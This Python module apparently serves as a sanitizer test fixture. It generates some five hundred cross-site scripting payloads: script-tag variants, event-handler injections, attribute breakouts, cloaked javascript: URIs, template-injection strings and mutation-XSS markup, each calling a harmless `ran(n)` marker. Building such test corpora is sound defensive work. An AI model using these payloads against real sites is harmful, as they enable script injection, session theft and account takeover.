"""Five hundred ways to have a script run, each another technique. `{n}` is the number by which one that ran is known.

Each calls `ran(n)`, which a page of a test defines. They are grouped by what a careless page would have to do for them.
"""

from __future__ import annotations

from collections.abc import Callable

ELEMENTS = """
<script>ran({n})</script>
<ScRiPt>ran({n})</sCrIpT>
<script type=module>ran({n})</script>
<script src="data:text/javascript,ran({n})"></script>
<script src=data:text/javascript;base64,cmFuKHtufSk=></script>
<script
>ran({n})</script
>
<script/x>ran({n})</script>
<<script>ran({n})//<</script>
<scr<script>ipt>ran({n})</scr</script>ipt>
<script>ran({n})
<svg><script>ran({n})</script></svg>
<svg><script href="data:text/javascript,ran({n})"/></svg>
<svg><script xlink:href="data:text/javascript,ran({n})"/></svg>
<math><script>ran({n})</script></math>
<math><mtext><script>ran({n})</script></mtext></math>
<svg><desc><script>ran({n})</script></desc></svg>
<svg><foreignObject><script>ran({n})</script></foreignObject></svg>
<template><script>ran({n})</script></template>
<noscript><p title="</noscript><script>ran({n})</script>">
<textarea></textarea><script>ran({n})</script>
</title><script>ran({n})</script>
</textarea><script>ran({n})</script>
</style><script>ran({n})</script>
--><script>ran({n})</script><!--
<!--><script>ran({n})</script>
<![CDATA[><script>ran({n})</script>]]>
<?xml version="1.0"?><script>ran({n})</script>
<xmp></xmp><script>ran({n})</script>
<iframe srcdoc="<script>parent.ran({n})</script>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.ran({n})&lt;/script&gt;"></iframe>
<iframe src="javascript:parent.ran({n})"></iframe>
<iframe src="data:text/html,<script>parent.ran({n})</script>"></iframe>
<object data="javascript:ran({n})"></object>
<object data="data:text/html,<script>parent.ran({n})</script>"></object>
<embed src="javascript:ran({n})">
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.ran({n})'/>">
<base href="javascript:ran({n})//">
<link rel=import href="data:text/html,<script>ran({n})</script>">
<link rel=modulepreload href="data:text/javascript,ran({n})" onload=ran({n})>
<meta http-equiv=refresh content="0;url=javascript:ran({n})">
<meta http-equiv=refresh content="0;url=data:text/html,<script>opener.ran({n})</script>">
<frameset onload=ran({n})><frame src="javascript:ran({n})"></frameset>
<applet code="javascript:ran({n})"></applet>
<portal src="javascript:ran({n})"></portal>
<form action="javascript:ran({n})"><button autofocus>x</button></form>
<form><button formaction="javascript:ran({n})">x</button></form>
<form><input type=submit formaction="javascript:ran({n})"></form>
<form><input type=image src=x formaction="javascript:ran({n})"></form>
<form id=f{n} action="javascript:ran({n})"></form><button form=f{n}>x</button>
<isindex type=image src=1 onerror=ran({n})>
"""

HANDLERS = """
<img src=x onerror=ran({n})>
<img src=x ONERROR=ran({n})>
<img/src=x/onerror=ran({n})>
<img src=x onerror="ran({n})">
<img src=x onerror='ran({n})'>
<img src=x onerror=`ran({n})`>
<img src=x	onerror	=	ran({n})>
<img src=x:x onerror&#61;ran({n})>
<img src="x`<script>ran({n})</script>"` `>
<img src=x onerror=&#114;an({n})>
<img src=x onerror=\\u0072an({n})>
<img src=x onerror=window['r'+'an']({n})>
<img src=x onerror=top[/ra/.source+/n/.source]({n})>
<img src=x onerror=eval(atob('cmFuKHtufSk='))>
<img src=x onerror=Function('ran({n})')()>
<img src=x onerror=setTimeout('ran({n})')>
<img src=x onerror=[{n}].map(ran)>
<img src=x onerror=ran?.({n})>
<img src=x onerror="throw onerror=ran,{n}">
<img srcset="x 1x" onerror=ran({n})>
<picture><source srcset=x><img onerror=ran({n}) src=x></picture>
<image src=x onerror=ran({n})>
<img src=x onload=1 onerror=ran({n})//
<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=ran({n})>
<video src=x onerror=ran({n})></video>
<video><source onerror=ran({n})></video>
<video poster=javascript:ran({n})></video>
<audio src=x onerror=ran({n})></audio>
<video onloadstart=ran({n}) src=x></video>
<video><track default src=x oncuechange=ran({n})></video>
<body onload=ran({n})>
<body onpageshow=ran({n})>
<body onhashchange=ran({n})>
<body onscroll=ran({n})><br><br>
<body onresize=ran({n})>
<body onfocus=ran({n})>
<html onmouseover=ran({n})>
<svg onload=ran({n})>
<svg/onload=ran({n})>
<svg onload=ran({n})//
<svg><g onload=ran({n})></g></svg>
<svg><a xlink:href="javascript:ran({n})"><text x=9 y=9>x</text></a></svg>
<svg><a href="javascript:ran({n})"><text y=9>x</text></a></svg>
<svg><animate onbegin=ran({n}) attributeName=x dur=1s></svg>
<svg><animate onend=ran({n}) attributeName=x dur=.01s></svg>
<svg><set onbegin=ran({n}) attributeName=x></svg>
<svg><animateTransform onbegin=ran({n}) attributeName=transform></svg>
<svg><animateMotion onbegin=ran({n}) /></svg>
<svg><a><animate attributeName=href values="javascript:ran({n})"/><text y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='ran({n})'/>#x"/></svg>
<svg><image href=x onerror=ran({n}) /></svg>
<svg><style onload=ran({n})></style></svg>
<math href="javascript:ran({n})">x</math>
<math><maction actiontype=statusline xlink:href="javascript:ran({n})">x</maction></math>
<math><mglyph src=x onerror=ran({n})>
<input autofocus onfocus=ran({n})>
<textarea autofocus onfocus=ran({n})></textarea>
<select autofocus onfocus=ran({n})></select>
<button autofocus onfocus=ran({n})>x</button>
<a href=# autofocus onfocus=ran({n})>x</a>
<div tabindex=1 autofocus onfocus=ran({n})>x</div>
<input autofocus onblur=ran({n})><input autofocus>
<input type=image src=x onerror=ran({n})>
<details open ontoggle=ran({n})>x</details>
<details open><summary onclick=ran({n})>x</summary></details>
<dialog open onclose=ran({n})><form method=dialog><button>x</button></form></dialog>
<div popover ontoggle=ran({n}) id=p{n}>x</div><button popovertarget=p{n}>x</button>
<button popovertarget=q{n}>x</button><div popover onbeforetoggle=ran({n}) id=q{n}>x</div>
<marquee onstart=ran({n})>x</marquee>
<marquee loop=1 width=0 onfinish=ran({n})>x</marquee>
<marquee onbounce=ran({n}) behavior=alternate width=1 loop=1>xxxx</marquee>
<div onmouseover=ran({n})>x</div>
<div onpointerenter=ran({n})>x</div>
<div onclick=ran({n})>x</div>
<div ondblclick=ran({n})>x</div>
<div oncontextmenu=ran({n})>x</div>
<div onwheel=ran({n})>x</div>
<div ontouchstart=ran({n})>x</div>
<div draggable=true ondragstart=ran({n})>x</div>
<div contenteditable oninput=ran({n})>x</div>
<input oncopy=ran({n}) onpaste=ran({n}) oncut=ran({n}) value=x>
<input onkeydown=ran({n}) onkeyup=ran({n})>
<input onselect=ran({n}) value=x autofocus>
<form onsubmit=ran({n})><button>x</button></form>
<form oninvalid=ran({n})><input required oninvalid=ran({n})><button>x</button></form>
<form onreset=ran({n})><button type=reset>x</button></form>
<style>@keyframes k{}</style><div style="animation:k 1ms" onanimationstart=ran({n})>x</div>
<style>@keyframes k{}</style><div style="animation:k 1ms" onanimationend=ran({n})>x</div>
<div style="transition:color 1ms" ontransitionend=ran({n})>x</div>
<style onload=ran({n})></style>
<link rel=stylesheet href=x onerror=ran({n})>
<link rel=stylesheet href=data:text/css, onload=ran({n})>
<script src=x onerror=ran({n})></script>
<object data=x onerror=ran({n})></object>
<embed src=x onload=ran({n})>
<iframe onload=ran({n})></iframe>
<iframe src=/ onload=ran({n})></iframe>
<div onscrollend=ran({n}) oncontentvisibilityautostatechange=ran({n})>x</div>
<x onclick=ran({n}) tabindex=1>x</x>
<xss id=x{n} tabindex=1 onfocus=ran({n})></xss>
"""

BREAKS = """
"><script>ran({n})</script>
'><script>ran({n})</script>
`><script>ran({n})</script>
"><img src=x onerror=ran({n})>
" autofocus onfocus=ran({n}) x="
' autofocus onfocus=ran({n}) x='
" onmouseover="ran({n})
" onfocus=ran({n}) tabindex=0 id="
" style="animation-name:x" onanimationstart="ran({n})
" href="javascript:ran({n})
</a><a href="javascript:ran({n})">x</a>
</mark><script>ran({n})</script><mark>
</li></ol><script>ran({n})</script>
</p></dialog><img src=x onerror=ran({n})>
</script><script>ran({n})</script>
";ran({n})//
';ran({n})//
\\";ran({n})//
`;ran({n})//
${{ran({n})}}
`${{ran({n})}}`
"-ran({n})-"
'-ran({n})-'
*/ran({n})/*
//\u2028ran({n})
"}});ran({n});//
{{"__proto__":{{"innerHTML":"<img src=x onerror=ran({n})>"}}}}
{{{{ran({n})}}}}
{{{{constructor.constructor('ran({n})')()}}}}
{{% raw %}}<script>ran({n})</script>{{% endraw %}}
<%= ran({n}) %>
#{{ran({n})}}
[[ran({n})]]
\\u003cscript\\u003eran({n})\\u003c/script\\u003e
\\x3cscript\\x3eran({n})\\x3c/script\\x3e
%3Cscript%3Eran({n})%3C/script%3E
%253Cscript%253Eran({n})%253C/script%253E
&lt;script&gt;ran({n})&lt;/script&gt;
&#60;script&#62;ran({n})&#60;/script&#62;
&amp;lt;img src=x onerror=ran({n})&amp;gt;
+ADw-script+AD4-ran({n})+ADw-/script+AD4-
＜script＞ran({n})＜/script＞
"""

ADDRESSES = """
javascript:ran({n})
JaVaScRiPt:ran({n})
 javascript:ran({n})
java\tscript:ran({n})
\u0001javascript:ran({n})
javascript://%0aran({n})
data:text/html,<script>opener.ran({n})</script>
vbscript:ran({n})
"""


EVENTS = """
auxclick beforecopy beforecut beforeinput beforematch beforepaste cancel canplay canplaythrough change command
contextlost contextrestored cuechange drag dragend dragenter dragexit dragleave dragover drop durationchange
emptied ended focusin focusout formdata fullscreenchange gotpointercapture hashchange keypress languagechange
loadeddata loadedmetadata loadstart lostpointercapture message messageerror mousedown mouseenter mouseleave
mousemove mouseout mouseup mousewheel offline online pagehide pagereveal pageshow pageswap pause play playing
pointercancel pointerdown pointermove pointerout pointerover pointerrawupdate pointerup popstate progress
ratechange rejectionhandled resize scroll scrollsnapchange scrollsnapchanging search securitypolicyviolation seeked
seeking selectionchange selectstart show slotchange stalled storage suspend timeupdate touchcancel touchend
touchmove transitioncancel transitionrun transitionstart unhandledrejection unload volumechange waiting
webkitanimationend webkitanimationiteration webkitanimationstart webkitfullscreenchange webkittransitionend
""".split()
HOLDERS = (
    (
        "video",
        "<video src=x {}></video>",
        "canplay cuechange durationchange emptied ended loaded loadstart pause play progress",
    ),
    ("window", "<body {}>", "hashchange language message off online page popstate rejection storage unhandled unload"),
    ("input", "<input {} value=x>", "beforeinput change key search select copy cut paste invalid"),
    ("svg", "<svg {}><rect width=9 height=9 /></svg>", "scroll pointer webkit"),
)
"""Elements on which some events happen, by parts of their names; the others happen on a <div>."""
SINKS = (
    """
<a href="{}">x</a>
<area href="{}">
<form action="{}"><button>x</button></form>
<button form=f{n} formaction="{}">x</button>
<input type=submit formaction="{}">
<iframe src="{}"></iframe>
<frame src="{}">
<embed src="{}">
<object data="{}"></object>
<svg><a xlink:href="{}"><text y=9>x</text></a></svg>
<svg><a href="{}"><circle r=9 /></a></svg>
<math href="{}">x</math>
<math><mi xlink:href="{}">x</mi></math>
<base href="{}">
<link rel=import href="{}">
<meta http-equiv=refresh content="0;url={}">
<body background="{}">
<table background="{}"><td>x</td></table>
<img src="{}">
<img longdesc="{}" src=x>
<input type=image src="{}">
<video poster="{}"></video>
<video src="{}"></video>
<audio src="{}"></audio>
<bgsound src="{}">
<script src="{}"></script>
""".strip()
    .replace("\n", "|")
    .split("|")
)
CLOAKS: tuple[Callable[[str], str], ...] = (
    lambda text: text.replace("javascript", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;"),
    lambda text: text.replace("javascript:", "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A"),
    lambda text: text.replace("javascript:", "java&Tab;script&colon;"),
    lambda text: text.replace("javascript:", "jav&NewLine;ascript:"),
    lambda text: "&#14; &#x1f;" + text.replace("javascript", "JaVasCript"),
    lambda text: text.replace("javascript:", "javascript:/*--&gt;*/%0a"),
    lambda text: text.replace("javascript:ran({n})", "data:text/html,&lt;script&gt;parent.ran({n})&lt;/script&gt;"),
)
"""Ways to hide what an address runs."""
MUTATING = """
<noscript><p title="</noscript><img src=x onerror=ran({n})>">
<svg></p><style><a id="</style><img src=x onerror=ran({n})>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran({n})&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran({n})>
<svg><p><style><g title="</style><img src=x onerror=ran({n})>"></g></style></p></svg>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=ran({n})></style></annotation-xml></math>
<svg><foreignObject><p><style><img title="</style><img src=x onerror=ran({n})>"></style></p></foreignObject></svg>
<svg><desc><noembed><img title="</noembed><img src=x onerror=ran({n})>"></desc></svg>
<svg><title><xmp><img alt="</xmp><img src=x onerror=ran({n})>"></title></svg>
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=ran({n})>"></a>
<xmp><p title="</xmp><svg/onload=ran({n})>">
<noembed><p title="</noembed><svg/onload=ran({n})>">
<noframes><p title="</noframes><svg/onload=ran({n})>">
<title><p title="</title><svg/onload=ran({n})>">
<textarea><p title="</textarea><svg/onload=ran({n})>">
<iframe><p title="</iframe><svg/onload=ran({n})>"></iframe>
<plaintext><p title="</plaintext><svg/onload=ran({n})>">
<table><caption><svg><style><img title="</style><img src=x onerror=ran({n})>"></table>
<math><mi><annotation-xml><svg><desc><style><!--</style><img src=x onerror=ran({n})>--></math>
<a><svg><animate attributeName=href to=javascript:ran({n}) /></a><text y=9>x</text></svg>
<!--><img src=x onerror=ran({n})>-->
<!---><img src=x onerror=ran({n})>-->
<!--x--!><img src=x onerror=ran({n})>
<![CDATA[><img src=x onerror=ran({n})>]]>
<?x ><img src=x onerror=ran({n})>?>
</><img src=x onerror=ran({n})>
<%00img src=x onerror=ran({n})>
<img src=x onerror =ran({n})>
<img src=x onerror= ran({n})>
<img/src="x"/onerror=ran({n})//
<img src=x:x onerror\t\f=\tran({n}) x>
<p id="&quot;><img src=x onerror=ran({n})>">
<p title='a"b' class="c'd" onclick=ran({n})>x</p>
<div id=__proto__><img name=constructor src=x onerror=ran({n})></div>
<form id=hc-search><input name=attributes><input name=parentNode onfocus=ran({n}) autofocus></form>
[x](javascript&colon;ran({n}))
[x](<javascript:ran({n})>)
![x](x"onerror="ran({n}))
<javascript:ran({n})>
[x]: javascript:ran({n})
"""


def _generated() -> list[str]:
    """One of each kind: every event, every attribute with a cloaked address, markup that parsers read differently."""
    lines = []
    for event in EVENTS:
        holder = next(
            (frame for _, frame, parts in HOLDERS if any(part in event for part in parts.split())), "<div {}>x</div>"
        )
        lines.append(holder.replace("{}", f"on{event}=ran({{n}})"))
    for at, sink in enumerate(SINKS):
        for cloak in (CLOAKS[at % len(CLOAKS)], *CLOAKS):
            line = sink.replace("{}", cloak("javascript:ran({n})"))
            lines += [line] if line not in lines else []
    return lines + [line for line in MUTATING.strip("\n").split("\n") if line]


def payloads() -> list[str]:
    """All of them, `{n}` replaced by the place of each."""
    lines: list[str] = []
    for group in (ELEMENTS, HANDLERS, BREAKS, ADDRESSES):
        joined = group.strip("\n").replace("<script\n>", "<script\f>").replace("</script\n>", "</script\f>")
        lines += [line for line in joined.split("\n") if line]
    lines += _generated()
    return [line.replace("{n}", str(at)).replace("{{", "{").replace("}}", "}") for at, line in enumerate(lines)]
